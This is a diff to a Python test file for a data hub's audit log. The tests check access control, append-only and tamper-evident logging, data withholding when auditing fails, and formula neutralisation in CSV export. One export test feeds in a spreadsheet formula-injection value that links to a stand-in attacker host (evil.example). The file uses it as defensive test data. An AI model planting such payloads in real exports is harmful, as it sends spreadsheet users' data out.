@@ -7,7 +7,6 @@ import csv
 import io
 import json
 import re
-import sqlite3
 import subprocess
 import sys
 import uuid
@@ -15,9 +14,10 @@ import uuid
 import pytest
 import requests
 
-from jin_hub import db
+from jin_hub import backends, db
 from jin_hub.access import accounts, auditlog, settings
 from tests.conftest import ADMIN, ANALYST, COUNCIL, snapshot_db
+from tests.hub_locator import UNGUARD_AUDIT, dict_rows, fail_audit, last_audit_seq
 
 DATA_PATHS = ["/api/v1/catalogue", "/api/v1/values/police_crime/lsoa", "/api/v1/boundaries/lsoa",
               "/collections", "/collections/police_crime_lsoa/items", "/api/v1/zones",
@@ -31,13 +31,7 @@ def get(url: str, auth=ANALYST, **kw) -> requests.Response:
 
 
 def audit_rows(db_path, after: int = 0) -> list[dict]:
-    conn = sqlite3.connect(db_path)
-    conn.row_factory = sqlite3.Row
-    return [dict(r) for r in conn.execute("SELECT * FROM audit_log WHERE seq > ? ORDER BY seq", (after,))]
-
-
-def last_seq(db_path) -> int:
-    return sqlite3.connect(db_path).execute("SELECT coalesce(max(seq), 0) FROM audit_log").fetchone()[0]
+    return dict_rows(db_path, "SELECT * FROM audit_log WHERE seq > ? ORDER BY seq", (after,))
 
 
 @pytest.mark.parametrize("path", DATA_PATHS)
@@ -169,7 +163,7 @@ def test_records_only_for_granted_agencies(hub_url, hub_db_path, demo_extracts):
 
 
 def test_every_data_response_is_audited(hub_url, hub_db_path):
-    start = last_seq(hub_db_path)
+    start = last_audit_seq(hub_db_path)
     get(f"{hub_url}/api/v1/values/police_crime/msoa", params={"period": "2024"})
     get(f"{hub_url}/collections/asb_incidents_district/items", auth=COUNCIL, params={"limit": 3})
     get(f"{hub_url}/api/v1/records/police_crime", params={"purpose": PURPOSE, "limit": 7})
@@ -196,15 +190,16 @@ def test_audit_log_is_append_only_and_tamper_evident(hub_url, hub_db_path, tmp_p
     get(f"{hub_url}/api/v1/values/fire_incidents/lsoa")
     conn = db.connect(hub_db_path)
     for sql in ("UPDATE audit_log SET username = 'someone.else'", "DELETE FROM audit_log"):
-        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
+        with pytest.raises(backends.errors(), match="append-only"):
             conn.execute(sql)
     n, broken = auditlog.verify(conn)
     assert n > 0 and broken == []
     # a copy edited behind the hub's back (triggers dropped) fails verification
     copy = snapshot_db(hub_db_path, tmp_path / "copy.sqlite")
-    forged = sqlite3.connect(copy)
-    forged.executescript("DROP TRIGGER audit_log_no_update; UPDATE audit_log SET rows = rows + 1 WHERE seq = 2;")
-    forged.commit()
+    forged = db.connect(copy)
+    with forged:
+        forged.execute(UNGUARD_AUDIT[forged.kind])
+        forged.execute("UPDATE audit_log SET rows = rows + 1 WHERE seq = 2")
     assert auditlog.verify(forged)[1] == [2]
     out = subprocess.run([sys.executable, "-m", "jin_hub", "--db", str(copy), "audit", "verify"],
                          capture_output=True, text=True)
@@ -236,19 +231,16 @@ def test_audit_failure_withholds_data(tmp_path, hub_db_path):
     url = "/api/v1/values/police_crime/district"
     with start_hub(copy) as hub:
         assert get(hub.url + url).status_code == 200
-        blocker = sqlite3.connect(copy, timeout=1)
-        blocker.execute("CREATE TRIGGER audit_block BEFORE INSERT ON audit_log WHEN NEW.status = 200 "
-                        "BEGIN SELECT RAISE(ABORT, 'disk full'); END")
-        blocker.commit()
-        start = last_seq(copy)
+        blocker = db.connect(copy)
+        with blocker:
+            blocker.executescript(fail_audit(blocker.kind, 200))
+        start = last_audit_seq(copy)
         r = get(hub.url + url)
         assert r.status_code == 503 and "audit log" in r.json()["detail"]
         assert "rows" not in r.text
         assert [(row["endpoint"], row["status"], row["rows"]) for row in audit_rows(copy, start)] == [(url, 503, 0)]
-        blocker.execute("DROP TRIGGER audit_block")
-        blocker.execute("CREATE TRIGGER audit_block BEFORE INSERT ON audit_log "
-                        "BEGIN SELECT RAISE(ABORT, 'disk full'); END")
-        blocker.commit()
+        with blocker:
+            blocker.executescript(fail_audit(blocker.kind))
         assert get(hub.url + url).status_code == 503
         assert len(audit_rows(copy, start)) == 1                     # nothing could be logged: no row at all
 
@@ -257,7 +249,7 @@ def test_audit_export_neutralises_spreadsheet_formulas(hub_url, hub_db_path, tmp
     """User names and parameters come from callers: exported, they must not run as formulas."""
     formula = "=HYPERLINK(\"http://evil.example/\"&A1)"
     get(f"{hub_url}/api/v1/values/police_crime/lsoa", auth=("@SUM(1+1)", "x"), params={"period": formula})
-    start = last_seq(hub_db_path) - 1
+    start = last_audit_seq(hub_db_path) - 1
     out = tmp_path / "audit.csv"
     subprocess.run([sys.executable, "-m", "jin_hub", "--db", str(hub_db_path), "audit", "export",
                     "--since", "2000-01-01", "--output", str(out)], check=True, capture_output=True)
